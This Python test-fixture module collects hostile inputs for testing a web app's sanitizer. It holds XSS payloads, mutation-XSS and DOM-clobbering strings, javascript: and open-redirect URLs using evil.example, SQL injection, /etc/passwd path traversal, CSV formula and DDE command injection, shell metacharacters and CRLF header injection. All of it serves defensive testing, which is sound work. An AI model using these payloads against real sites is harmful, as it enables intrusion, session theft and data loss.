"""What people and agencies may send us with bad intent, or by accident: our own, and known lists.

Every attack of ours calls `ran()`, which the page that watches it has (tests/hostile/watch.py).
"""

import json
import unicodedata
from html import unescape

from tests.conftest import SAMPLES

BADINPUT = SAMPLES / "badinput"
ATTACK = "<img src=x onerror=ran()>"  # fits where a name fits
ELSEWHERE = "//evil.example"
UNREADABLE = {"Cc", "Cn"}  # control characters and what is no character
HTML, IMAGE = "<script>ran()</script>", ATTACK

SCRIPTS = (
    HTML,
    "<SCRIPT>ran()</SCRIPT>",
    "<scr\0ipt>ran()</scr\0ipt>",
    "<script/x>ran()</script >",
    "<script\n>ran()</script\n>",
    "<scr<script>ipt>ran()</scr</script>ipt>",
    "<<script>ran();//<</script>",
    f"<script src={ELSEWHERE}/a.js></script>",
    "<script src=data:text/javascript,ran()></script>",
    "<script type=module>ran()</script>",
    "<script>ran()",
    f'">{HTML}',
    f"'>{HTML}",
    f"--></script>{HTML}",
    "<svg><script>ran()</script></svg>",
    "<svg><script href=data:,ran() /></svg>",
    "<math><script>ran()</script></math>",
    "<?xml version='1.0'?><script xmlns='http://www.w3.org/1999/xhtml'>ran()</script>",
    "<html:script xmlns:html='http://www.w3.org/1999/xhtml'>ran()</html:script>",
    "%3Cscript%3Eran()%3C/script%3E",
    "\\u003cscript\\u003eran()\\u003c/script\\u003e",
    "\uff1cscript\uff1eran()\uff1c/script\uff1e",
    "+ADw-script+AD4-ran()+ADw-/script+AD4-",
    "&lt;script&gt;ran()&lt;/script&gt;",
    "&amp;lt;script&amp;gt;ran()&amp;lt;/script&amp;gt;",
)
HANDLERS = (
    "<img src=x ONERROR=ran()>",
    "<img/src=x/onerror=ran()>",
    "<img src=x\x0conerror=ran()>",
    "<img src=x onerror\n=\n'ran()'>",
    "<img src=x onerror=&#114;an&lpar;&rpar;>",
    f'<img """>{IMAGE}">',
    "<img src=`x` onerror=ran()>",
    '<img src=x onerror="ran()"',
    "<img src=x onerror=ran() //",
    "<im\0g src=x on\0error=ran()>",
    "<svg onload=ran()>",
    "<svg/onload=ran()//",
    "<body onload=ran()>",
    "<body onpageshow=ran()>",
    "<details open ontoggle=ran()><summary>a</summary></details>",
    "<input autofocus onfocus=ran()>",
    "<select autofocus onfocus=ran()></select>",
    "<textarea autofocus onfocus=ran()></textarea>",
    "<button onclick=ran()>a</button>",
    "<p tabindex=1 onfocus=ran() onmouseover=ran() onclick=ran()>a</p>",
    "<a href=/ onmouseenter=ran() onpointerdown=ran()>a</a>",
    "<p style='animation:x 1s' onanimationstart=ran()>a</p>",
    "<p contenteditable onbeforeinput=ran() oncut=ran()>a</p>",
    "<marquee onstart=ran()>a</marquee>",
    "<audio src=x onerror=ran()></audio>",
    "<video><source src=x onerror=ran()></video>",
    "<object data=x onerror=ran()></object>",
    "<link rel=stylesheet href=x onerror=ran()>",
    "<style onload=ran()></style>",
    "<form onsubmit=ran() onformdata=ran()><input type=submit></form>",
    "<iframe onload=ran()></iframe>",
    "<xss-a onscroll=ran() onauxclick=ran()>a</xss-a>",
    "<td onmouseover=ran()>a</td>",
    "<th colspan=ran() onclick=ran()>a</th>",
    "<a title='x' lang='\"onclick=ran()//' dir='\"><img src=x onerror=ran()>'>a</a>",
)
ADDRESSES = (
    "javascript:ran()",
    "JaVaScRiPt:ran()",
    "java\tscript:ran()",
    "java\nscript:ran()",
    "java&#9;script:ran()",
    "java&Tab;script&colon;ran()",
    "&#106;avascript:ran()",
    "&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;ran()",
    "\x01javascript:ran()",
    " &#14; javascript:ran()",
    "java\0script:ran()",
    "javascript\0:ran()",
    "javascript://%0aran()",
    "javascript:/*--></title></style></textarea></script></xmp>*/ran()",
    "vbscript:ran()",
    "data:text/html,<script>ran()</script>",
    "data:text/html;base64,PHNjcmlwdD5yYW4oKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='ran()'/>",
    "view-source:javascript:ran()",
    "feed:javascript:ran()",
    "blob:http://musashi.localhost/ran",
    f"{ELSEWHERE}/",
    "/\\evil.example/",
    "/\t/evil.example/",
    "\\\\evil.example",
    "https:evil.example",
    "http://musashi.localhost@evil.example/",
    "http://evil.example\uff0f@musashi.localhost/",
    "http://evil.example\\@musashi.localhost/",
    "http://evil.example\\.musashi.localhost/",
    "http://musashi.localhost\\@evil.example/",
)
HOLDERS = (
    "<area href='{}'>",
    "<form action='{}'><button>a</button></form>",
    "<button formaction='{}'>a</button>",
    "<input type=image src='{}' formaction='{}'>",
    "<iframe src='{}'></iframe>",
    "<iframe srcdoc='&lt;script>parent.ran()&lt;/script>' src='{}'></iframe>",
    "<embed src='{}'>",
    "<object data='{}'><param name=src value='{}'></object>",
    "<frameset><frame src='{}'></frameset>",
    "<svg><a xlink:href='{}' href='{}'><text y=9>a</text></a></svg>",
    "<svg><use href='{}#a' xlink:href='{}#a'/></svg>",
    "<svg><a><animate attributeName=href values='{}'/><text y=9>a</text></a></svg>",
    "<svg><a><set attributeName=href to='{}'/><text y=9>a</text></a></svg>",
    "<math href='{}'><mtext xlink:href='{}'>a</mtext></math>",
    "<base href='{}'>",
    "<meta http-equiv=refresh content='0;url={}'>",
    "<link rel=import href='{}'><link rel=stylesheet href='{}'><link rel=prefetch href='{}'>",
    "<img src='{}' srcset='{} 1x' longdesc='{}' lowsrc='{}' dynsrc='{}'>",
    "<body background='{}'>",
    "<table background='{}'><tr><td background='{}'>a</td></tr></table>",
    "<blockquote cite='{}'>a</blockquote><q cite='{}'>b</q><ins cite='{}'>c</ins>",
    "<video poster='{}'></video>",
    "<a href=/ ping='{}'>a</a>",
    "<bgsound src='{}'><isindex action='{}' type=submit>",
)
RAW = ("noscript", "style", "title", "textarea", "xmp", "iframe", "noembed", "noframes", "template")
MUTATIONS = (
    *(f'<{tag}><p title="</{tag}>{IMAGE}">' for tag in RAW),
    *(f'<svg><{tag}><a title="</{tag}>{IMAGE}">' for tag in ("style", "title", "desc")),
    *(f'<math><mtext><{tag}><a title="</{tag}>{IMAGE}">' for tag in ("style", "xmp", "mglyph")),
    f'<svg></p><style><a id="</style>{IMAGE}">',
    f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;{IMAGE}">',
    f"<form><math><mtext></form><form><mglyph><style></math>{IMAGE}",
    f"<select><template>{IMAGE}</template></select>",
    f"<select><style></select>{IMAGE}</style>",
    f"<svg><foreignObject><p><style></foreignObject>{IMAGE}",
    f"<svg><title><![CDATA[</title>{IMAGE}]]></title></svg>",
    f"<math><annotation-xml encoding='text/html'>{IMAGE}</annotation-xml></math>",
    f'<a title="<!--"><b lang="-->{IMAGE}">a</b></a>',
    "<listing>&lt;img src=x onerror=ran()&gt;</listing>",
    f"<plaintext>{IMAGE}",
    f"<p><table><p><a><table><td>{IMAGE}",
    f"<!--><{IMAGE}-->",
    f"<!-- --!>{IMAGE} -->",
    f"<!--[if IE]>{HTML}<![endif]-->",
    f"<![CDATA[{HTML}]]>",
    f"<?x {HTML} ?>",
    f"<!DOCTYPE html [<!ENTITY x '{HTML}'>]>&x;",
    "<style>@import '//evil.example/a.css'; *{background:url(//evil.example/b)}</style>",
    "<p style=\"background:url('javascript:ran()');width:expression(ran())\">a</p>",
    "<p style='behavior:url(a.htc);-moz-binding:url(//evil.example/c)'>a</p>",
    "<p style='position:fixed;inset:0;z-index:9'><a href=//evil.example/>Sign in</a></p>",
    "<style>*{display:none!important}</style>",
    *(f"<{tag} id=content name=body class=comment-text>a" for tag in ("form", "a", "img", "p")),
    "<form id=forms><input name=attributes><input name=csrfmiddlewaretoken value=evil></form>",
    "<a id=known name=cookie href=//evil.example>a</a><img name=getElementById>",
    '<a href="https://musashi.localhost/',
    "<a href='https://musashi.localhost/'><b><i><u>a",
    "<p title='",
    "</div></main></body></html>",
    "<!--",
    "<![CDATA[",
    "</",
    "<",
)
TEMPLATES = (
    "{{ 7|add:7 }}{% load static %}{# a #}",
    "{{constructor.constructor('ran()')()}}",
    "${ran()}#{ran()}<%= ran() %>[[ran()]]@(ran())",
    "{}{0}{title}{name.__class__}{code}",
    "%s%n%x%(name)s%%",
)
WORDS = (
    *("null", "None", "undefined", "NaN", "true", "0", "-1", "1e309", "()", "[]", "{}"),
    "' OR 1=1 --",
    "'); DROP TABLE discussion_comment; --",
    "%' ESCAPE '\\",
    "../../../../etc/passwd",
    "C:\\con\\aux.txt",
    "=1+1",
    '=HYPERLINK("http://evil.example","a")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "$(ran) `ran` ; ran && ran | ran",
    "a\r\nSet-Cookie: session=evil\r\n\r\nb",
    "Subject: hello\nBcc: all@evil.example",
    "a\0b",
    "\x1b[31mred\x1b[0m\x07\x08\x7f",
    "\u202egnp.exe\u202c and \u2066left\u2069",
    "zero\u200bwidth\u200dand\ufeffmark",
    "line\u2028and\u2029paragraph",
    "Z\u0351\u036b\u0343a\u0369l\u0360g\u0321o\u0327",
    "\ufdfa" * 40,
    "\U0001f469\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466 \U0001f3f4\U000e0067\U000e007f",
    "\u05e9\u05dc\u05d5\u05dd \u0645\u0631\u062d\u0628\u0627 \u3053\u3093\u306b\u3061\u306f",
    "\ufffe\uffff\U0010ffff",
    "supercalifragilistic" * 40,
    "> not said\n> by anybody",
    "https://evil.example/?a=\"onmouseover=ran()&b='><img/src=x>",
    "http://[::1]:99999/ https://%00 https://a\u3000b",
)
OWN = (
    *(*SCRIPTS, ATTACK, *HANDLERS),
    *(f"<a href='{address}'>go</a>" for address in ADDRESSES),
    *(holder.replace("{}", ADDRESSES[0]) for holder in HOLDERS),
    *(holder.replace("{}", f"{ELSEWHERE}/a") for holder in HOLDERS),
    *(holder.replace("{}", ADDRESSES[15]) for holder in HOLDERS[:10]),
    *(*MUTATIONS, *TEMPLATES, *WORDS),
)
# Closes whatever an attack left open, so that the next one begins afresh.
RESET = (
    "\"'>--></script></style></title></textarea></xmp></noscript></noembed></noframes></iframe>"
    "</template></select></svg></math></table>"
)
KNOWN = {
    "naughty": "blns.json",
    "purify": "dompurify-expect.json",
    "sanitizer": "html5lib-sanitizer-tests1.dat.json",
}


def corpora():
    """Name → texts of every corpus that is here; `own` always is."""
    here = {name: file for name, file in KNOWN.items() if (BADINPUT / file).is_file()}
    return {"own": list(OWN)} | {name: known(file) for name, file in here.items()}


def known(file):
    """The texts of one list of the samples."""
    found = json.loads((BADINPUT / file).read_text(encoding="utf-8"))
    texts = (one if isinstance(one, str) else one.get("payload") or one["input"] for one in found)
    return [text for text in texts if text.strip()]


def addresses():
    """Addresses that are read differently by different programs, of ours and of the samples."""
    found = [unescape(address) for address in ADDRESSES]
    if BADINPUT.is_dir():
        found += (BADINPUT / "ssrf-urls.txt").read_text(encoding="utf-8").split("\n")
        tests = json.loads((BADINPUT / "wpt-urltestdata.json").read_text(encoding="utf-8"))
        found += [one["input"] for one in tests if isinstance(one, dict)]
    whole = (address.encode("utf-8", "replace").decode() for address in found)
    return [address for address in whole if address.strip()]


def packed(texts, size, between="\n\n"):
    """The texts again, as many together as `size` characters hold; a longer one is cut."""
    bundle = ""
    for text in (text[:size] for text in texts):
        if bundle and len(bundle) + len(between) + len(text) > size:
            yield bundle
            bundle = ""
        bundle = f"{bundle}{between}{text}" if bundle else text
    yield bundle


def readable(text):
    """A text without spaces, signs of quotes and what nobody can read, to be compared."""
    return text.translate({
        ord(sign): None for sign in set(text)
        if sign.isspace() or sign == ">" or unicodedata.category(sign) in UNREADABLE
    })  # fmt: skip
